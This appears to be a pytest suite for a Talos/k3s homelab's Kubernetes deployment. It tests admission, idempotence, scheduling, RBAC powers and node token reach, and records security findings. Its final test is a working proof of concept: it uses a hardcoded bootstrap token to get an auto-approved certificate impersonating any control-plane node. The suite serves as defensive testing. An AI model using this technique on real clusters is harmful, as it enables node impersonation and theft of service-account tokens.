"""The program's Kubernetes objects on real control planes: admitted in the engine's order, unchanged
by a second `up`, and every workload's pods admitted and scheduled where the inventory means them.

For each shipped stack (random ones: test_random_stacks.py): the real program under Pulumi's mocks
(`iluvatar.simulate`), a Talos control plane for Arda and a k3s one for the Ainur with the
inventory's machines as kwok nodes, every object written as its writer writes it
(`tools.kube_program.Walker`: pulumi-kubernetes, Helm, a helm.v4 Chart, Argo CD's sync), then the
second `up`, then the pods. Any refusal names the cluster, the object, its writer and the API
server's words. Then what each ServiceAccount may do cluster-wide, and which tokens each node's identity may
request, asked of the API server's own authorizers (tools.kube_reach) and pinned.
"""

from __future__ import annotations

import base64
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from plans import backup, secrets, storage
from stacks import load_stack_file
from stacks.load import read_stack_file
from tests.edit import HOMELAB, RK1
from tests.kube.deploy import STATIC_SOURCE, Deployed, deployed, problems
from tests.sims import simulated
from tools import kube_reach
from tools.kube_cluster import describe
from tools.kube_inventory import CONTROL_PLANE

pytestmark = pytest.mark.kube


@pytest.fixture(scope="module", params=[HOMELAB, RK1], ids=["homelab", "rk1"])
def deployment(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deployed]:
    with deployed(read_stack_file(request.param), tmp_path_factory.mktemp(request.param.stem), sim=simulated(request.param)) as result:
        yield result


def test_every_object_is_admitted_in_the_engines_order(deployment: Deployed) -> None:
    report = deployment.report
    assert report.refusals == [], "refused:\n" + "\n".join(report.refusals)
    # Only other providers' resources are skipped (Talos, commands, Cloudflare, TLS, random); no Kubernetes kind is.
    assert not [t for t in report.skipped if t.startswith("kubernetes:")]
    assert {w.cluster for w in report.written} == set(deployment.clusters)
    # No field of ours the API server does not know (it drops one and only warns: a typo would vanish).
    unknown = [f"{w.cluster}: {describe(w.obj)}: {m}" for w in report.written if w.writer == "pulumi" for m in w.warnings if "unknown field" in m]
    assert unknown == [], "\n".join(unknown)


def test_what_stood_in_and_what_was_removed_is_exactly_what_cannot_run_here(deployment: Deployed) -> None:
    report = deployment.report
    cilium = "arda: cilium's operator: 22 objects it creates at start-up, from its module at 1.18.4"
    webhooks = [
        "arda: MutatingWebhookConfiguration envoy-gateway-topology-injector.envoy-gateway-system (edge-gateways-envoy-gateway) admitted, then removed: "
        "no pod serves envoy-gateway-system/envoy-gateway here",
        "arda: MutatingWebhookConfiguration cert-manager-webhook (edge-certificates-cert-manager) admitted, then removed: no pod serves cert-manager/cert-manager-webhook here",
        "arda: ValidatingWebhookConfiguration cert-manager-webhook (edge-certificates-cert-manager) admitted, then removed: no pod serves cert-manager/cert-manager-webhook here",
        "arda: ValidatingWebhookConfiguration trust-manager (edge-certificates-trust-manager) admitted, then removed: no pod serves cert-manager/trust-manager here",
    ]
    rook = "arda: Application rook-ceph: its subchart ceph-csi-operator (no Go module serves it)"
    talos = "arda: Talos: the talos.dev ServiceAccount CRD its controller writes when kubernetesTalosAPIAccess is on"
    # talos-backup's ServiceAccount kind is Talos's (homelab backs Arda's etcd up); ESO's webhooks (its apps have secrets).
    assert report.stand_ins == ([talos] if backup.arda_etcd(deployment.stack) else []) + [cilium]
    if secrets.enabled(deployment.stack):
        webhooks += [
            f"arda: ValidatingWebhookConfiguration {name} (data-secrets-release) admitted, then removed: no pod serves external-secrets/external-secrets-webhook here"
            for name in ("externalsecret-validate", "secretstore-validate")
        ]
    # In the engine's order of the releases that bring them; compared whole.
    assert sorted(report.removed) == sorted(webhooks)
    if deployment.stack.ainur is not None:  # homelab: Longhorn on the Pis' disks
        assert report.not_rendered == [
            rook,
            "ainur: Application longhorn (longhorn 1.10.1): Longhorn's chart is in no Go module the proxy serves (github.com/longhorn/longhorn@v1.10.1 answers 403)",
        ]
    else:
        assert report.not_rendered == [rook]


def test_a_second_up_changes_nothing(deployment: Deployed) -> None:
    changes = deployment.walker.reapply()
    assert deployment.report.refusals == [], "refused on the second up:\n" + "\n".join(deployment.report.refusals)
    assert changes == [], "changed by the second up:\n" + "\n".join(changes)


def test_every_workload_pod_is_admitted_and_scheduled(deployment: Deployed) -> None:
    found = problems(deployment)
    assert found == [], "\n".join(found)


def _pod_spec(obj: dict[str, Any]) -> dict[str, Any]:
    spec: dict[str, Any] = obj["spec"] if obj["kind"] == "Pod" else obj["spec"]["template"]["spec"]
    return spec


def _tolerates_control_planes(obj: dict[str, Any]) -> bool:
    return any(
        t.get("key") in (None, CONTROL_PLANE) and t.get("operator") == "Exists" and t.get("effect") in (None, "NoSchedule")
        for t in _pod_spec(obj).get("tolerations") or []
    )


# What may run on Arda's control planes when they are tainted: what tolerates the taint, no more.
MAY_RUN_ON_CONTROL_PLANES = [
    "DaemonSet kube-system/cilium",
    "DaemonSet kube-system/cilium-envoy",
    "Deployment kube-system/cilium-operator",
    # Like Talos's own CoreDNS (plans.coredns): the cluster resolves names before any worker joins.
    "Deployment kube-system/coredns",
    "Deployment local-path-storage/local-path-provisioner",
    # With monitoring: kube-prometheus's node-exporter reads every machine, control planes included.
    "DaemonSet monitoring/node-exporter",
    # With logs (on with monitoring): the collector Talos sends each machine's own logs to (plans.logs).
    "DaemonSet monitoring/log-collector",
]


def test_no_load_balancer_of_the_ainur_holds_a_node_port(deployment: Deployed) -> None:
    """The Ainur's LoadBalancer Services as the real API server keeps them: no port has a NodePort, which would open
    the Service on every Pi's own address, where a pod of another Pi arrives as its Pi (plans.netpol)."""
    if "ainur" not in deployment.clusters:
        assert deployment.stack.ainur is None
        return
    services = [s for s in deployment.clusters["ainur"].client.list("v1", "Service") if s["spec"].get("type") == "LoadBalancer"]
    node_ports = {f"{s['metadata']['namespace']}/{s['metadata']['name']}": [p.get("nodePort") for p in s["spec"]["ports"]] for s in services}
    assert node_ports == {"identity/front-door": [None, None], "netboot/git-mirror": [None], "netboot/netboot": [None]}


def test_no_load_balancer_of_arda_holds_a_node_port(deployment: Deployed) -> None:
    """Arda's LoadBalancer Services as the real API server keeps them: no port has a NodePort, which Cilium's kube-proxy
    replacement would serve on every machine's address, opening the Service to whatever a remote-access route to a
    worker lets in (plans.ports.service). The gateways' Services are Envoy Gateway's to make, and no controller runs
    here: their EnvoyProxy asks for none (tests/plans/test_netpol.py)."""
    services = [s for s in deployment.clusters["arda"].client.list("v1", "Service") if s["spec"].get("type") == "LoadBalancer"]
    node_ports = {f"{s['metadata']['namespace']}/{s['metadata']['name']}": [p.get("nodePort") for p in s["spec"]["ports"]] for s in services}
    assert all(s["spec"]["allocateLoadBalancerNodePorts"] is False for s in services)
    if deployment.stack.ainur is None:
        assert node_ports == {"networking/lan-resolver": [None, None]}
    else:
        assert node_ports == {
            "home-automation/mosquitto-lan": [None, None],
            "monitoring/victoria-logs-lan": [None],
            "selfhosted/minecraft-lan": [None, None],
        }


def test_each_workload_runs_where_the_inventory_means_it(deployment: Deployed) -> None:
    stack = deployment.stack
    arda_nodes = deployment.nodes("arda")
    # Cilium's agent and its Envoy on every Arda machine, control planes included.
    for name in ("DaemonSet kube-system/cilium", "DaemonSet kube-system/cilium-envoy"):
        assert deployment.workload("arda", name).nodes == arda_nodes, name
    # kube-prometheus (synced as Argo CD builds it): node-exporter on every Arda machine too.
    if stack.monitoring is not None:
        assert deployment.workload("arda", "DaemonSet monitoring/node-exporter").nodes == arda_nodes
    # The cluster's DNS (plans.coredns, Talos's own turned off): two pods on two machines, behind kube-dns at
    # the address Talos gives every kubelet, which the real API server accepted from the service network.
    coredns = deployment.workload("arda", "Deployment kube-system/coredns")
    assert len(coredns.pods) == 2 and len(set(coredns.nodes)) == 2 and set(coredns.nodes) <= set(arda_nodes), coredns.pods
    service = deployment.clusters["arda"].client.get("v1", "Service", "kube-dns", "kube-system")
    assert service is not None and service["spec"]["clusterIPs"] == ["10.96.0.10"]
    assert service["spec"]["selector"] == coredns.obj["spec"]["template"]["metadata"]["labels"] == {"k8s-app": "kube-dns"}
    # Off the control planes, unless they take workloads or the workload tolerates their taint: exactly these do.
    tolerating = sorted(w.name for w in deployment.workloads("arda") if _tolerates_control_planes(w.obj))
    assert tolerating == sorted(
        w for w in MAY_RUN_ON_CONTROL_PLANES if stack.monitoring is not None or not w.endswith(("/node-exporter", "/log-collector"))
    )
    if not stack.arda.allow_scheduling_on_control_planes:
        control_planes = set(deployment.nodes("arda", iluvatar__role="valinor"))
        assert {w.name for w in deployment.workloads("arda") if set(w.nodes) & control_planes} <= set(tolerating)
    if stack.ainur is not None:
        pis = deployment.nodes("ainur")
        for name in ("DaemonSet netboot/netboot-cache", "DaemonSet kube-system/kube-vip-services"):
            assert deployment.workload("ainur", name).nodes == pis, name
        # The netboot pod on a maiar: a valar's death then leaves DHCP running.
        [node] = deployment.workload("ainur", "Deployment netboot/netboot").nodes
        assert node in deployment.nodes("ainur", iluvatar__role="maiar")
        # kube-vip's static pod on each valar, as each valar's kubelet registers it.
        static = [w for w in deployment.workloads("ainur") if w.source == STATIC_SOURCE]
        assert sorted(n for w in static for n in w.nodes) == sorted(n.name for n in stack.by_role("valar"))
        # The Git mirror on a Pi, its claim bound (by a stand-in volume: no provisioner runs here).
        assert deployment.workload("ainur", "Deployment netboot/git-mirror").nodes[0] in pis
        # Longhorn's label on exactly the Pis with a data disk, from the program's NodePatch.
        labelled = deployment.nodes("ainur", **{storage.LONGHORN_DISK_LABEL.replace("/", "__"): "true"})
        assert labelled == sorted(storage.longhorn_node_labels(stack))


# --- What each account may do, and which of them a node's identity reaches (issue #54) -----------------------------

# kube-controller-manager's own accounts (`--use-service-account-credentials`): no pod runs as them, so no node
# reaches their tokens; the same in every cluster.
CONTROLLER_MANAGER_POWERS = {
    "kube-system/clusterrole-aggregation-controller": ["escalate cluster roles"],
    "kube-system/daemon-set-controller": ["create pods"],
    "kube-system/generic-garbage-collector": ["list secrets", "get secrets"],
    "kube-system/job-controller": ["create pods"],
    "kube-system/namespace-controller": ["list secrets", "get secrets"],
    "kube-system/persistent-volume-binder": ["create pods"],
    "kube-system/replicaset-controller": ["create pods"],
    "kube-system/replication-controller": ["create pods"],
    "kube-system/resourcequota-controller": ["list secrets"],
    "kube-system/statefulset-controller": ["create pods"],
}
# FINDING: Argo CD's application controller holds every power, cluster-wide, in both clusters (the chart's default
# ClusterRole: `*` on `*`); any node its pod is bound to can ask for its token.
ARGOCD_POWERS = {
    "argocd/argocd-application-controller": [
        "list secrets",
        "get secrets",
        "create pods",
        "create tokens",
        "bind cluster roles",
        "escalate cluster roles",
    ],
    "argocd/argocd-server": ["get secrets"],
}
ARDA_POWERS = {
    **ARGOCD_POWERS,
    "argocd/argocd-notifications-controller": ["list secrets"],
    "cert-manager/cert-manager": ["list secrets", "get secrets", "create pods"],
    "cert-manager/cert-manager-cainjector": ["list secrets", "get secrets"],
    "envoy-gateway-system/envoy-gateway": ["list secrets", "get secrets"],
    "kube-system/cilium-operator": ["list secrets", "get secrets"],
    # FINDING: kube-state-metrics lists every Secret (kube-prometheus's ClusterRole, for the secrets' metadata series).
    "monitoring/kube-state-metrics": ["list secrets"],
    "monitoring/prometheus-operator": ["list secrets", "get secrets"],
    "rook-ceph/objectstorage-provisioner": ["get secrets"],
    "rook-ceph/rook-ceph-system": ["list secrets", "get secrets"],
}
# Per stack (the homelab has the Ainur; rk1 has not), per cluster: each account holding a power cluster-wide.
ACCOUNT_POWERS = {
    "homelab": {
        "arda": {
            **CONTROLLER_MANAGER_POWERS,
            **ARDA_POWERS,
            # FINDING: External Secrets' controller may also mint a token for any account (it authenticates stores so).
            "external-secrets/external-secrets": ["list secrets", "get secrets", "create tokens"],
            "external-secrets/external-secrets-cert-controller": ["list secrets", "get secrets"],
            "volsync-system/volsync": ["list secrets", "get secrets"],
        },
        "ainur": {**CONTROLLER_MANAGER_POWERS, **ARGOCD_POWERS},
    },
    "rk1": {"arda": {**CONTROLLER_MANAGER_POWERS, **ARDA_POWERS}},
}
# FINDING: the accounts holding a power above whose token some node's kubelet identity may request (the Node
# authorizer: the account of a pod bound to that node). Whichever node the scheduler picks, one node holds each.
# Longhorn's chart is not rendered here (tools.kube_program), so its manager's account, on every Ainur node
# including the netbooted maiar (issue #54, finding 1), is not among them: the Node authorizer would add it.
NODE_REACHABLE = {
    "homelab": {
        "arda": set(ARDA_POWERS) - {"rook-ceph/objectstorage-provisioner"}
        | {"external-secrets/external-secrets", "external-secrets/external-secrets-cert-controller", "volsync-system/volsync"},
        "ainur": set(ARGOCD_POWERS),
    },
    "rk1": {"arda": set(ARDA_POWERS) - {"rook-ceph/objectstorage-provisioner"}},
}


def test_each_account_holds_exactly_the_cluster_wide_powers_written_here(deployment: Deployed) -> None:
    """The real API server's RBAC authorizer, asked by SubjectAccessReview for each account of the cluster."""
    stack = "homelab" if "ainur" in deployment.clusters else "rk1"
    found = {cluster: kube_reach.account_powers(c.client) for cluster, c in deployment.clusters.items()}
    assert found == ACCOUNT_POWERS[stack]


def test_a_node_identity_reaches_the_tokens_of_its_pods_accounts_and_these_powerful_ones(deployment: Deployed) -> None:
    """The real Node authorizer, asked for every node and every account: exactly its pods' accounts, no other."""
    stack = "homelab" if "ainur" in deployment.clusters else "rk1"
    for cluster, c in deployment.clusters.items():
        deployment.workloads(cluster)  # every workload's pods created and bound
        # The Node authorizer answers from a graph its informers keep (plugin/pkg/auth/authorizer/node/graph_populator.go):
        # a pod the API deleted a moment ago (a finished Job's, once its TTL ran out) is still in it until the informer's
        # event arrives. So the two are compared once the pods stood still across the authorizer's answers and the graph
        # agrees with them, within a bound; a difference that outlasts it is the finding.
        deadline = time.monotonic() + 60
        while True:
            before = kube_reach.pod_accounts(c.client)
            tokens = kube_reach.node_tokens(c.client)
            pods = kube_reach.pod_accounts(c.client)
            if (before == pods and tokens == pods) or time.monotonic() > deadline:
                break
        differ = {n: (sorted(set(tokens[n]) - set(pods.get(n, []))), sorted(set(pods.get(n, [])) - set(tokens[n]))) for n in tokens}
        assert tokens == pods, f"{cluster}: (tokens but no pod, pod but no token) per node, 60 s after the pods were first read: {differ}"
        reachable = {a for accounts in tokens.values() for a in accounts} & set(ACCOUNT_POWERS[stack][cluster])
        assert reachable == NODE_REACHABLE[stack][cluster], cluster


# --- What an Arda machine's join token reaches (issue #54) ---------------------------------------------------------------

# Talos's own objects for its kubelets' TLS bootstrap, which it applies at bootstrap (Talos v1.14.0-rc.1,
# internal/app/machined/pkg/controllers/k8s/internal/k8stemplates/kubelet.go:16-34, csr.go:14-66, manifest.go:160-179): the
# cluster's bootstrap token (the `cluster.token` of every machine's config, workers' included), with no expiration,
# whose holder is in `system:bootstrappers:nodes`; that group may create CSRs and have a node client certificate
# approved for it (`...:certificatesigningrequests:nodeclient`).
TALOS_TOKEN_ID, TALOS_TOKEN_SECRET = "25p8ak", "vshybadgp2mhtvm7"
TALOS_BOOTSTRAP = (
    {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": f"bootstrap-token-{TALOS_TOKEN_ID}", "namespace": "kube-system"},
        "type": "bootstrap.kubernetes.io/token",
        "stringData": {
            "token-id": TALOS_TOKEN_ID,
            "token-secret": TALOS_TOKEN_SECRET,
            "usage-bootstrap-authentication": "true",
            "auth-extra-groups": "system:bootstrappers:nodes",
        },
    },
    *(
        {
            "apiVersion": "rbac.authorization.k8s.io/v1",
            "kind": "ClusterRoleBinding",
            "metadata": {"name": name},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
            "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": group} for group in groups],
        }
        for name, role, groups in (
            ("system-bootstrap-node-bootstrapper", "system:node-bootstrapper", ("system:bootstrappers:nodes", "system:nodes")),
            (
                "system-bootstrap-approve-node-client-csr",
                "system:certificates.k8s.io:certificatesigningrequests:nodeclient",
                ("system:bootstrappers:nodes",),
            ),
        )
    ),
)


def test_an_arda_machines_join_token_obtains_the_identity_of_any_node(kube_fresh: Any, tmp_path: Path) -> None:
    """FINDING (docs/security.md, "An Arda machine"): whoever reads one Arda machine's config (a worker's STATE, a
    leaked machine config) holds the cluster's bootstrap token, and with it gets a client certificate of any node's
    identity, a control plane's included: kube-controller-manager's approver approves a node client CSR whatever name
    it asks for when the requester may create `nodeclient` (k8s v1.35.1
    pkg/controller/certificates/approver/sarapprove.go:62-73, 151-163: only `selfnodeclient` checks the name), and
    signs it. That identity then reaches what the Node authorizer gives that node: the tokens of its pods' accounts
    (test_a_node_identity_reaches_the_tokens_of_its_pods_accounts_and_these_powerful_ones)."""
    from tools.kube_cluster import TALOS, KubeClient

    victim = load_stack_file(HOMELAB).by_role("valinor")[0].name  # a control plane
    cluster = kube_fresh(TALOS, components=("etcd", "kube-apiserver", "kube-controller-manager"))
    for manifest in TALOS_BOOTSTRAP:
        cluster.client.create(manifest)
    key, request = tmp_path / "node.key", tmp_path / "node.csr"
    subprocess.run(
        [
            *("openssl", "req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"),
            "-keyout",
            key,
            "-out",
            request,
            "-subj",
            f"/O=system:nodes/CN=system:node:{victim}",
        ],
        check=True,
        capture_output=True,
    )
    csr = {
        "apiVersion": "certificates.k8s.io/v1",
        "kind": "CertificateSigningRequest",
        "metadata": {"name": "stolen-token"},
        "spec": {
            "request": base64.b64encode(request.read_bytes()).decode(),
            "signerName": "kubernetes.io/kube-apiserver-client-kubelet",
            "usages": ["digital signature", "client auth"],
        },
    }
    thief = cluster.client_for_token(f"{TALOS_TOKEN_ID}.{TALOS_TOKEN_SECRET}")
    status, answer = thief.request("POST", "/apis/certificates.k8s.io/v1/certificatesigningrequests", csr)
    assert status == 201, answer
    assert answer["spec"]["username"] == f"system:bootstrap:{TALOS_TOKEN_ID}"
    # The approver and the signer act on the controller-manager's informer: the wait is for the certificate itself.
    deadline = time.monotonic() + 60
    while not (found := thief.request("GET", "/apis/certificates.k8s.io/v1/certificatesigningrequests/stolen-token")[1])["status"].get("certificate"):
        assert time.monotonic() < deadline, f"no certificate for the CSR after 60 s: {found['status']}"
        time.sleep(0.2)
    thief.close()
    assert [c["type"] for c in found["status"]["conditions"]] == ["Approved"]
    assert found["status"]["conditions"][0]["message"] == "Auto approving kubelet client certificate after SubjectAccessReview."
    cert = tmp_path / "node.crt"
    cert.write_bytes(base64.b64decode(found["status"]["certificate"]))
    node = KubeClient(cluster.server, cluster.pki / "ca.crt", cert, key)
    status, review = node.request(
        "POST", "/apis/authentication.k8s.io/v1/selfsubjectreviews", {"apiVersion": "authentication.k8s.io/v1", "kind": "SelfSubjectReview"}
    )
    node.close()
    assert status == 201, review
    assert (review["status"]["userInfo"]["username"], sorted(review["status"]["userInfo"]["groups"])) == (
        f"system:node:{victim}",
        ["system:authenticated", "system:nodes"],
    )
